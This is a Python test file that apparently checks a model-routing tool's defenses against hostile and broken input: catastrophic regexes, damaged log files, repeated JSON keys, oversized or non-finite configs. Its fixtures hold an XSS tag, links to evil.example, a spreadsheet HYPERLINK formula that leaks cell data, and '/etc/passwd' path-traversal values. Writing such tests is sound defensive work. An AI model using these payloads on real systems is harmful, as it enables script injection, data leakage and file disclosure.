"""Hostile and broken input (issue 16): patterns that cannot stall a run, broken log files that keep
their good rows, repeated JSON keys, spreadsheet formulas in the review sheet, data escaped in
Markdown, oversized configs, non-finite numbers and a classifier file outside routing.yaml's
directory. One test per hole, each failing without its fix."""

from __future__ import annotations

import csv
import gzip
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import monitor_synth as synth
import pytest
from label_support import TIERS_YAML, write_workload
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from calibrate.cli.app import app
from calibrate.config.routing import classifier_path, load_routing
from calibrate.config.tiers import load_tiers
from calibrate.errors import ConfigError, LogFormatError
from calibrate.ingest.stage import ingest
from calibrate.labels.scorers import ScorerSpec, score_answer
from calibrate.policies.keyword_rules import forced_tiers, load_rules
from calibrate.store import Store

runner = CliRunner()


def clock() -> datetime:
    return datetime(2026, 11, 1, tzinfo=UTC)


# --- §2 regular expressions -------------------------------------------------------------------

EVIL_PATTERN = "(a+)+$"
EVIL_PROMPT = "a" * 40 + "!"  # Python's `re` backtracks 2^40 ways before it gives up
TIERS = """tiers:
  - {name: small, model: m-small, price: {input_per_mtok: 0.15, output_per_mtok: 0.6}}
  - {name: large, model: m-large, price: {input_per_mtok: 2.5, output_per_mtok: 10}}
"""


def _hybrid_routing(pattern: str) -> str:
    end = synth.START.replace(day=synth.START.day + 19)
    return f"""version: 1
strategy: hybrid
tiers:
  - {{name: small, model: m-small, escalate_below: {synth.THRESHOLD}}}
  - {{name: large, model: m-large}}
rules:
  - {{name: evil, pattern: '{pattern}', tier: large}}
premium_tier: large
objective: {{max_quality_drop: 0.02, confidence_level: 0.95}}
certified: true
selection: certified
expected:
  escalation_rate: 0.28
calibrated_on:
  requests: 800
  labeled: 200
  window: {{start: '{synth.START}T00:00:00Z', end: '{end}T23:59:59Z'}}
  logs_sha256: synthetic
"""


HOSTILE_REGION = "<img src=x onerror=alert(1)>"
HOSTILE_INTENTS = ("[click](http://evil.example)", "![px](http://evil.example/p.gif)")
HOSTILE_MODEL = '<a href="http://evil.example">m-large</a>'


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Logs whose prompts hold `EVIL_PROMPT` and "aaaa", whose regions and intents are HTML and
    links; a rules file and a hybrid routing.yaml with `EVIL_PATTERN`; then sweep, evaluate,
    monitor and diff (against the routing.yaml with an HTML model name) through the CLI."""
    tmp = tmp_path_factory.mktemp("hostile")
    scenario = synth.Scenario(
        days=40, per_day=40, change_day=25, accuracy=(0.8, 0.6), wrong_logit=(-0.5, 2.0)
    )
    draws = synth.draw(scenario, 5)
    log = synth.write_jsonl(draws, tmp / "l.jsonl")
    rows = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    rows[0]["prompt"], rows[1]["prompt"] = EVIL_PROMPT, "aaaa"
    for i, row in enumerate(rows):
        row["region"] = HOSTILE_REGION if row["region"] == "us-east-1" else row["region"]
        row["metadata"] = {"intent": HOSTILE_INTENTS[i % 2]}
    log.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    (tmp / "tiers.yaml").write_text(TIERS, encoding="utf-8")
    rules = f"rules:\n  - {{name: evil, pattern: '{EVIL_PATTERN}', tier: large}}\n"
    (tmp / "rules.yaml").write_text(rules, encoding="utf-8")
    routing, other = tmp / "routing.yaml", tmp / "other.yaml"
    routing.write_text(_hybrid_routing(EVIL_PATTERN), encoding="utf-8")
    other.write_text(_hybrid_routing(EVIL_PATTERN).replace("m-large", HOSTILE_MODEL))
    db, out = str(tmp / "s.duckdb"), tmp / "out"
    run: dict = {"rows": len(rows)}

    sweep = ["sweep", str(log), "--db", db, "--tiers", str(tmp / "tiers.yaml"), "--out", str(out)]
    run["sweep"] = runner.invoke(
        app, [*sweep, "--rules", str(tmp / "rules.yaml"), "--no-router", "--allow-biased"]
    )
    run["report.md"] = (out / "report.md").read_text(encoding="utf-8")
    run["summary"] = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    run["evaluate"] = runner.invoke(app, ["evaluate", str(routing), "--db", db, "--json"])
    monitor = ["monitor", "--db", db, "--baseline", str(routing), "--out", str(tmp / "m")]
    run["monitor"] = runner.invoke(app, monitor)
    run["monitor.md"] = (tmp / "m" / "monitor.md").read_text(encoding="utf-8")
    run["diff"] = runner.invoke(app, ["diff", str(routing), str(other)])
    return run


def test_a_catastrophic_pattern_finishes_in_sweep_evaluate_and_monitor(hostile_run) -> None:
    """`(a+)+$` on forty `a`s and a `!`: RE2 answers "no match" in linear time (Python's `re`
    backtracks for ever); the prompt "aaaa" matches. Sweep, evaluate and monitor finish and
    report the rule."""
    tiers = ("small", "large")
    assert forced_tiers([(EVIL_PATTERN, "large")], [EVIL_PROMPT, "aaaa"], tiers).tolist() == [-1, 1]
    regex = ScorerSpec(kind="regex")  # the regex scorer's reference is a user pattern too
    assert score_answer(regex, EVIL_PROMPT, EVIL_PATTERN).score == 0.0
    assert hostile_run["sweep"].exit_code == 0, hostile_run["sweep"].output
    hits = [(h["pattern"], h["hits"]) for h in hostile_run["summary"]["keyword_rules"]]
    assert hits == [(EVIL_PATTERN, 1)]
    assert hostile_run["evaluate"].exit_code == 0, hostile_run["evaluate"].output
    policy = json.loads(hostile_run["evaluate"].stdout)["policy"]
    assert policy == f"hybrid:small>large@{synth.THRESHOLD}"
    assert hostile_run["monitor"].exit_code == 0, hostile_run["monitor"].output
    assert "1 keyword rules, then cascade small → large" in hostile_run["monitor.md"]


def test_data_in_markdown_outputs_renders_as_text(hostile_run) -> None:
    """Regions, intents and model names that are HTML, links and images reach report.md,
    monitor.md and the diff's Markdown escaped: rendered, they are text, never a tag, a link or
    an image (CommonMark, which GitHub's Markdown extends)."""
    assert hostile_run["diff"].exit_code == 0, hostile_run["diff"].output
    markdown = MarkdownIt("commonmark").enable("table")
    outputs = {
        "report.md": (hostile_run["report.md"], "&lt;img src=x onerror=alert(1)&gt;"),
        "monitor.md": (hostile_run["monitor.md"], "![px](http://evil.example/p.gif)"),
        "diff": (hostile_run["diff"].stdout, "&lt;a href=&quot;http://evil.example&quot;&gt;"),
    }
    for name, (text, shown) in outputs.items():
        html = markdown.render(text)
        assert shown in html, name  # the data is there, as text
        assert "<img src=x" not in html and "<a href=" not in html, name
        assert not re.search(r"(href|src)=\"[^\"]*evil", html), name


# --- §4 broken files keep their good rows -------------------------------------------------------

GOOD_ROWS = 20


def _row(rid: str) -> dict:
    attempt = {"tier": "small", "model": "m", "confidence": 0.5, "output": "x", "status": "ok"}
    return {
        "request_id": rid,
        "timestamp": "2026-10-01T09:30:00Z",
        "prompt": f"q {rid}",
        "metadata": {"intent": "x"},
        "attempts": [attempt],
    }


def _lines(prefix: str) -> list[bytes]:
    return [json.dumps(_row(f"{prefix}-{i}")).encode() for i in range(GOOD_ROWS)]


def _with_bad_line(prefix: str, bad: bytes) -> bytes:
    lines = _lines(prefix)
    lines.insert(5, bad)  # line 6
    return b"\n".join(lines) + b"\n"


def _non_utf8(path: Path) -> tuple[Path, int, str]:
    log = path / "a.jsonl"
    log.write_bytes(_with_bad_line("a", b'{"request_id": "bad\xff", "prompt": "\xfe"}'))
    return log, 6, "not UTF-8: invalid byte 0xff"


def _non_utf8_gz(path: Path) -> tuple[Path, int, str]:
    log = path / "a.jsonl.gz"
    log.write_bytes(gzip.compress(_with_bad_line("a", b'{"request_id": "bad\xff"}')))
    return log, 6, "not UTF-8: invalid byte 0xff"


def _long_line(path: Path) -> tuple[Path, int, str]:
    log = path / "a.jsonl"
    big = b'{"request_id": "big", "prompt": "' + b"x" * (17 << 20) + b'"}'
    log.write_bytes(_with_bad_line("a", big))
    return log, 6, f"line too long: {len(big)} bytes (at most {16 << 20})"


def _deep_csv(path: Path) -> tuple[Path, int, str]:
    log = path / "a.csv"
    header = "request_id,timestamp,prompt,metadata,attempt_tier,attempt_confidence\n"
    rows = [f"a-{i},2026-10-01T09:30:00Z,q,,small,0.5\n" for i in range(GOOD_ROWS)]
    deep = '"{""x"": ' + "[" * 10_000 + "]" * 10_000 + '}"'
    rows.insert(5, f"bad,2026-10-01T09:30:00Z,q,{deep},small,0.5\n")
    log.write_text(header + "".join(rows), encoding="utf-8")
    return log, 7, "invalid JSON: metadata: nested too deeply"


def _non_utf8_csv(path: Path) -> tuple[Path, int, str]:
    log = path / "a.csv"
    rows = [f"a-{i},2026-10-01T09:30:00Z,q,small,0.5\n".encode() for i in range(GOOD_ROWS)]
    rows.insert(5, b"bad\xff,2026-10-01T09:30:00Z,q,small,0.5\n")
    log.write_bytes(
        b"request_id,timestamp,prompt,attempt_tier,attempt_confidence\n" + b"".join(rows)
    )
    return log, 7, "not UTF-8: invalid byte 0xff at col 4 of request_id"


def _plain_text_gz(path: Path) -> tuple[Path, int, str] | tuple[Path, None, None]:
    log = path / "a.jsonl.gz"
    log.write_bytes(b"\n".join(_lines("a")) + b"\n")
    return log, None, None  # read as the plain text it is: nothing to reject


def _truncated_gz(path: Path) -> tuple[Path, int, str]:
    log = path / "a.jsonl.gz"
    tail = json.dumps(_row("cut") | {"prompt": "y" * 100_000}).encode()
    data = gzip.compress(b"\n".join([*_lines("a"), tail]) + b"\n", compresslevel=0)
    log.write_bytes(data[: len(data) - 50_000])  # stored blocks: the cut falls inside line 21
    return log, GOOD_ROWS + 1, "damaged file: the gzip data ends early (the file is truncated)"


def _trailing_garbage_gz(path: Path) -> tuple[Path, int, str]:
    log = path / "a.jsonl.gz"
    data = gzip.compress(b"\n".join(_lines("a")) + b"\n")
    log.write_bytes(data + b"this is not gzip")
    reason = f"damaged file: the bytes from offset {len(data)} on are not gzip data"
    return log, GOOD_ROWS + 1, reason + " (trailing garbage)"


BROKEN = {
    "non-UTF-8 line": _non_utf8,
    "non-UTF-8 line, gzip": _non_utf8_gz,
    "line over the limit": _long_line,
    "CSV metadata nested 10,000 deep": _deep_csv,
    "CSV with a non-UTF-8 cell": _non_utf8_csv,
    ".gz holding plain text": _plain_text_gz,
    "truncated gzip": _truncated_gz,
    "gzip with trailing garbage": _trailing_garbage_gz,
}


@pytest.mark.parametrize("whole_files", [True, False], ids=["file path", "line path"])
@pytest.mark.parametrize("make", BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_file_keeps_its_good_rows_and_the_run_goes_on(
    tmp_path: Path, make, whole_files: bool
) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    broken, line, reason = make(logs)
    (logs / "b.jsonl").write_bytes(b"\n".join(_lines("b")) + b"\n")  # read after the broken one

    with Store.open(tmp_path / "s.duckdb") as store:
        summary = ingest(store, [logs], strict=False, clock=clock, whole_files=whole_files)
        kept = store.con.execute(
            "SELECT source_file, count(*) FROM requests GROUP BY ALL ORDER BY 1"
        ).fetchall()
        rejects = store.con.execute("SELECT file, line, reason FROM rejects").fetchall()

    assert kept == [(str(broken), GOOD_ROWS), (str(logs / "b.jsonl"), GOOD_ROWS)]
    assert summary.files == 2 and summary.rows_kept == 2 * GOOD_ROWS
    if line is None:
        assert rejects == []
    else:
        assert [(f, n) for f, n, _ in rejects] == [(str(broken), line)]
        assert rejects[0][2].startswith(reason)


@pytest.mark.parametrize("make", [_truncated_gz, _long_line], ids=["truncated gzip", "long line"])
def test_strict_still_writes_nothing_for_a_broken_file(tmp_path: Path, make) -> None:
    broken, line, reason = make(tmp_path)

    with Store.open(tmp_path / "s.duckdb") as store:
        with pytest.raises(LogFormatError, match=re.escape(f"{broken}:{line}: -: {reason}")):
            ingest(store, [broken], strict=True, clock=clock)
        assert store.table_counts() == {
            "requests": 0,
            "attempts": 0,
            "labels": 0,
            "rejects": 0,
            "ingest_runs": 0,
        }


# --- §5 smaller holes -------------------------------------------------------------------------

REPEATED_KEYS = [
    b'{"request_id": "A", "request_id": "B", "timestamp": "2026-10-01T09:30:00Z", "prompt": "q"}',
    b'{"request_id": "C", "timestamp": "2026-10-01T09:30:00Z", "prompt": "q", "attempts":'
    b' [{"tier": "small", "confidence": 0.1, "confidence": 0.9}]}',
    b'{"request_id": "D", "timestamp": "2026-10-01T09:30:00Z", "prompt": "q",'
    b' "labels": {"small": 1, "small": 0}}',
]


@pytest.mark.parametrize("whole_files", [True, False], ids=["file path", "line path"])
def test_a_repeated_json_key_rejects_its_row(tmp_path: Path, whole_files: bool) -> None:
    log = tmp_path / "a.jsonl"
    log.write_bytes(b"\n".join([*_lines("a"), *REPEATED_KEYS]) + b"\n")
    csv_log = tmp_path / "b.csv"
    csv_log.write_text(
        "request_id,timestamp,prompt,attempts\n"
        'E,2026-10-01T09:30:00Z,q,"[{""tier"": ""small"", ""tier"": ""large""}]"\n'
        "F,2026-10-01T09:30:00Z,q,\n",
        encoding="utf-8",
    )
    header = tmp_path / "c.csv"
    header.write_text("request_id,timestamp,prompt,request_id\nG,2026-10-01T09:30:00Z,q,H\n")

    with Store.open(tmp_path / "s.duckdb") as store:
        ingest(store, [tmp_path], strict=False, clock=clock, whole_files=whole_files)
        ids = {r for (r,) in store.con.execute("SELECT request_id FROM requests").fetchall()}
        rejects = store.con.execute("SELECT line, reason FROM rejects ORDER BY file, line")

        assert ids == {f"a-{i}" for i in range(GOOD_ROWS)} | {"F"}
        assert rejects.fetchall() == [
            (21, "duplicate key: request_id appears twice"),
            (22, "duplicate key: attempts[0].confidence appears twice"),
            (23, "duplicate key: labels.small appears twice"),
            (2, "duplicate key: attempts: tier appears twice"),
            (2, "duplicate key: column request_id appears twice in the header"),
        ]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_the_review_sheet_neutralizes_formulas_and_labels_import_reads_them_back(
    tmp_path: Path,
) -> None:
    """Cells from the logs that a spreadsheet would run as formulas get a leading quote (OWASP);
    `labels import` takes it off, so request ids like `=HYPERLINK(…)` still match."""
    work = write_workload(tmp_path / "logs.jsonl", n=40)
    rows = [json.loads(line) for line in work.logs.read_text(encoding="utf-8").splitlines()]
    odd = [*FORMULAS, "'quoted", "\ttab"]
    for row, text in zip(rows, odd, strict=False):
        row["request_id"] = row["prompt"] = row["app"] = text.strip()  # import strips ids
        row["attempts"][0]["output"] = row["reference"] = text
    work.logs.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    db, tiers, sheet = tmp_path / "s.duckdb", tmp_path / "tiers.yaml", tmp_path / "review.csv"
    tiers.write_text(TIERS_YAML, encoding="utf-8")
    with Store.open(db) as store:
        ingest(store, [work.logs], strict=False, clock=clock)

    args = ["sample", "--n", "40", "--out", str(sheet), "--tiers", str(tiers), "--db", str(db)]
    result = runner.invoke(app, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with sheet.open(encoding="utf-8", newline="") as fh:
        cells = list(csv.reader(fh))
    assert len(cells) == 41
    assert not [c for row in cells for c in row if c.startswith(("=", "+", "-", "@", "\t"))]
    written = {row[0] for row in cells}
    assert {"'" + t for t in odd[:-1]} <= written and "'\ttab" in {row[9] for row in cells}

    filled = [cells[0]] + [row[:-4] + ["1", "0", "ana", "=1+1"] for row in cells[1:]]
    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(filled)
    args = ["labels", "import", str(tmp_path / "filled.csv"), "--db", str(db)]
    result = runner.invoke(app, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with Store.open(db) as store:
        labeled = store.con.execute(
            "SELECT request_id, tier, score FROM labels WHERE source = 'human'"
        ).fetchall()
    assert len(labeled) == 80
    ids = [t.strip() for t in odd]
    assert {(r, t, s) for r, t, s in labeled if r in ids} == {
        (text, tier, score) for text in ids for tier, score in (("small", 1.0), ("large", 0.0))
    }


def test_an_oversized_config_or_too_many_rules_is_a_clear_error(tmp_path: Path) -> None:
    """A 50 MB rules.yaml ran 120 s and took 3 GB: now a file over 1 MiB is refused before it is
    parsed, and a rules file may hold at most 1000 rules."""
    rule = "  - {pattern: 'refund', tier: large}\n"
    huge = tmp_path / "huge.yaml"
    huge.write_text("rules:\n" + rule * 40_000, encoding="utf-8")  # 1.5 MB
    many = tmp_path / "many.yaml"
    many.write_text("rules:\n" + rule * 1001, encoding="utf-8")
    (tmp_path / "ok.yaml").write_text("rules:\n" + rule * 1000, encoding="utf-8")

    with pytest.raises(ConfigError, match="rules file larger than 1 MiB"):
        load_rules(huge, ("small", "large"))
    with pytest.raises(ConfigError, match="rules: Tuple should have at most 1000 items"):
        load_rules(many, ("small", "large"))
    assert len(load_rules(tmp_path / "ok.yaml", ("small", "large")).rules) == 1000
    with pytest.raises(ConfigError, match="larger than 1 MiB"):
        load_tiers(Path("/dev/zero"))  # a device is read no further than the limit


@pytest.mark.parametrize(
    ("edit", "field"),
    [
        (("input_per_mtok: 0.15", "input_per_mtok: 1e400"), "tiers.0.price.input_per_mtok"),
        (("input_per_mtok: 0.15", "input_per_mtok: .inf"), "tiers.0.price.input_per_mtok"),
        (("model: m-small", "model: m-small, limits: {rpm: 1000000000000}"), "tiers.0.limits.rpm"),
        (("output_per_mtok: 0.6", "output_per_mtok: 1e9"), "tiers.0.price.output_per_mtok"),
        (
            ("model: m-small", "model: m-small, limits: {timeout_s: .inf}"),
            "tiers.0.limits.timeout_s",
        ),
        (
            ("model: m-small", "model: m-small, limits: {concurrency: 1000000}"),
            "tiers.0.limits.concurrency",
        ),
        (
            ("model: m-small", "model: m-small, params: {temperature: .inf}"),
            "tiers.0.params.temperature",
        ),
    ],
)
def test_config_numbers_are_finite_and_in_range(tmp_path: Path, edit, field: str) -> None:
    path = tmp_path / "tiers.yaml"
    path.write_text(TIERS.replace(*edit), encoding="utf-8")
    assert path.read_text(encoding="utf-8") != TIERS
    with pytest.raises(ConfigError, match=f"tiers.yaml: {field}"):
        load_tiers(path)


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (("escalate_below: 0.7", "escalate_below: .nan"), "escalate_below"),
        (("escalate_below: 0.7", "escalate_below: 1e400"), "escalate_below"),
        (("confidence_level: 0.95", "confidence_level: .inf"), "objective.confidence_level"),
        (("max_quality_drop: 0.02", "max_quality_drop: 1e400"), "objective.max_quality_drop"),
        (("escalation_rate: 0.28", "escalation_rate: .inf"), "expected.escalation_rate"),
    ],
)
def test_routing_numbers_are_finite_and_in_range(tmp_path: Path, edit, message: str) -> None:
    path = tmp_path / "routing.yaml"
    text = _hybrid_routing("refund")
    path.write_text(text.replace(*edit), encoding="utf-8")
    assert path.read_text(encoding="utf-8") != text
    with pytest.raises(ConfigError, match=message):
        load_routing(path)
    path.write_text(text.replace("escalate_below: 0.7", "escalate_below: .inf"))
    assert load_routing(path).tiers[0].escalate_below == float("inf")  # "keep nothing" stays


ROUTER = """version: 1
strategy: router
tiers:
  - {name: small, model: m-small}
  - {name: large, model: m-large}
classifier: {file: FILE, min_score: 0.5}
premium_tier: large
objective: {max_quality_drop: 0.02, confidence_level: 0.95}
certified: false
selection: empirical
expected: {quality: 0.9}
calibrated_on:
  requests: 10
  labeled: 5
  window: {start: null, end: null}
  logs_sha256: x
"""


@pytest.mark.parametrize("file", ["../../../../etc/passwd", "/etc/passwd", "a/../../x.json"])
def test_the_classifier_file_cannot_leave_the_routing_files_directory(
    tmp_path: Path, file: str
) -> None:
    path = tmp_path / "routing.yaml"
    path.write_text(ROUTER.replace("FILE", f"'{file}'"), encoding="utf-8")
    with pytest.raises(ConfigError, match="classifier.file: .* leaves routing.yaml's directory"):
        load_routing(path)


def test_a_classifier_file_linked_out_of_the_directory_is_refused(tmp_path: Path) -> None:
    (tmp_path / "deploy").mkdir()
    (tmp_path / "secret.json").write_text("{}", encoding="utf-8")
    (tmp_path / "deploy" / "router.json").symlink_to(tmp_path / "secret.json")
    path = tmp_path / "deploy" / "routing.yaml"
    path.write_text(ROUTER.replace("FILE", "router.json"), encoding="utf-8")
    config = load_routing(path)
    with pytest.raises(ConfigError, match="outside"):
        classifier_path(config, path.parent)
    (tmp_path / "deploy" / "router.json").unlink()
    (tmp_path / "deploy" / "router.json").write_text("{}", encoding="utf-8")
    assert classifier_path(config, path.parent) == (tmp_path / "deploy" / "router.json").resolve()
